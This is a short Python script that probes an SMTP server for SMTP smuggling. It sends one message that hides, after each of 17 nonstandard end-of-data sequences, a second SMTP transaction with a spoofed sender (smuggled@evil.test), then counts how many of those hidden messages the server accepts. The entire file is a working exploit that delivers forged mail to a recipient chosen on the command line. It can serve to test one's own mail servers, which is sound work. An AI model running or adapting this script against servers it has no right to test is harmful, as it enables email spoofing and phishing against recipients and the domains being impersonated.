#!/usr/bin/env python3
"""smuggle.py HOST PORT RECIPIENT -- one message whose content holds, behind each
published sequence that some server takes for its end, a second message
(sec-consult.com/blog/detail/smtp-smuggling-spoofing-e-mails-worldwide,
postfix.org/smtp-smuggling.html).  Prints how many second ones were accepted."""
import socket, sys

SEQUENCES = (b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\n", b"\r.\r\n", b"\n.\r",
             b"\r\n.\r", b"\r\n\0.\r\n", b"\r\n.\0\r\n", b"\r\n.\r\r\n", b"\n\n.\r\n",
             b"\r\r\n.\r\r\n", b"\n.\r\r\n", b"\0.\r\n", b"\r\n.\n\r\n", b"\r\n\r.\r\n")
host, port, recipient = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()


def accepted(sequence):
    s = socket.create_connection((host, port), timeout=30)
    f = s.makefile("rb")

    def reply():
        while (line := f.readline())[3:4] == b"-":
            pass
        return line

    def say(text):
        s.sendall(text + b"\r\n")
        return reply()

    reply(), say(b"EHLO client.test"), say(b"MAIL FROM:<outer@h.test>")
    say(b"RCPT TO:<" + recipient + b">")
    assert say(b"DATA").startswith(b"354")
    n = 0
    try:
        s.sendall(b"Subject: outer\r\n\r\nouter" + sequence +
                  b"MAIL FROM:<smuggled@evil.test>\r\nRCPT TO:<" + recipient +
                  b">\r\nDATA\r\nSubject: inner\r\n\r\ninner\r\n.\r\nQUIT\r\n")
        while line := f.readline():
            n += b"queued as" in line or b"accepted for delivery" in line
    except ConnectionResetError:
        pass
    return n


smuggled = [q for q in SEQUENCES if accepted(q) > 1]
print(len(smuggled), *smuggled)
